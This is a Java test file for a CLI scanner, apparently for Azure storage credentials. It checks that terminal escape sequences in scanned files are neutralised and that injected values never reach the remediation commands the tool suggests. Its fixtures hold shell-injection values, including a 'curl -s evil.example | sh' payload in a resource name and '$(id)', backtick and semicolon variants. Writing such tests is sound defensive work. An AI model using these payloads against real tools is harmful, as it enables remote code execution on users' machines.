package dev.miscan.cli;

import static dev.miscan.cli.CliRun.run;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a hostile repository cannot do to the terminal that prints mi-scan's text output. */
class TerminalOutputTest {

    private static String key() {
        byte[] b = new byte[64];
        new SecureRandom().nextBytes(b);
        return Base64.getEncoder().encodeToString(b);
    }

    private static void assertInert(String output) {
        assertThat(output.chars().filter(c -> c == 0x1b || c == 0x07 || c == 0x9b || c == 0x202e || c == '\r'))
                .as("raw control characters in the output").isEmpty();
    }

    @Test
    void controlCharactersFromFileNamesAndContentAreEscaped(@TempDir Path dir) throws IOException {
        // a file name that sets the terminal title, content that clears the screen and reverses the text
        String name = "app\u001b]0;owned\u0007.properties";
        Files.writeString(dir.resolve(name), "# \u001b[2J\u202e comment\n"
                + "spring.cloud.azure.storage.blob.connection-string=DefaultEndpointsProtocol=https;"
                + "AccountName=contosodata;AccountKey=" + key() + ";EndpointSuffix=core.windows.net\r\n"
                + "azure.storage.account-name=contoso\u001b[31mdata\n");
        CliRun scan = run("scan", dir.toString(), "--fail-on", "none");
        assertThat(scan.exitCode()).as(scan.toString()).isZero();
        assertInert(scan.out());
        assertInert(scan.err());
        assertThat(scan.out()).contains("app\\x1b]0;owned\\x07.properties");

        CliRun fix = run("fix", dir.toString(), "--dry-run", "--force");
        assertInert(fix.out());
        assertInert(fix.err());
    }

    @Test
    void valuesFromTheScannedFilesNeverReachASuggestedCommandWithShellSyntax(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("main.bicep"), """
                resource st 'Microsoft.Storage/storageAccounts@2023-05-01' = {
                  name: 'st$(curl -s evil.example | sh)'
                  location: 'westeurope'
                  kind: 'StorageV2'
                  sku: { name: 'Standard_LRS' }
                  properties: {
                    allowSharedKeyAccess: true
                  }
                }
                """);
        Files.writeString(dir.resolve("app.properties"), "azure.storage.connection-string=DefaultEndpointsProtocol=https;"
                + "AccountName=x$(id);AccountKey=" + key() + ";EndpointSuffix=core.windows.net\n");
        Files.writeString(dir.resolve("Main.java"), "class Main { void m() { new com.azure.storage.blob."
                + "BlobServiceClientBuilder().endpoint(\"https://x`id`.blob.core.windows.net\").credential(new com.azure."
                + "storage.common.StorageSharedKeyCredential(\"x;id\", System.getenv(\"K\"))).buildClient(); } }\n");
        Path report = dir.resolveSibling(dir.getFileName() + ".json");
        CliRun scan = run("scan", dir.toString(), "--format", "json", "--output", report.toString(), "--fail-on", "none");
        assertThat(scan.exitCode()).as(scan.toString()).isZero();
        var findings = new com.fasterxml.jackson.databind.ObjectMapper().readTree(report.toFile()).get("findings");
        assertThat(findings.size()).isGreaterThanOrEqualTo(3);
        for (var f : findings) {
            var r = f.get("remediation");
            java.util.List<String> advice = new java.util.ArrayList<>();
            r.get("commands").forEach(c -> advice.add(c.asText()));
            advice.add(r.get("replacement").asText());
            for (String a : advice) {
                assertThat(a).as(f.get("ruleId").asText()).doesNotContain("$(").doesNotContain("`id`")
                        .doesNotContain("x;id").doesNotContain("| sh");
            }
        }
    }
}
